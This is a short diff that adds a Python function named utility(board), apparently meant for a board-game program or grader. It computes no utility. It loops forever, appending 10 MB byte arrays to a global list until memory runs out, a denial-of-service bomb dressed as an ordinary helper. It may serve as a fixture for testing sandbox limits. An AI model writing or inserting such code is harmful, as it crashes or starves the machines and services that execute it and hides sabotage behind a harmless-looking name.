@@ -1,0 +1,6 @@
+kept = []
+
+
+def utility(board):
+    while True:
+        kept.append(bytearray(10**7))
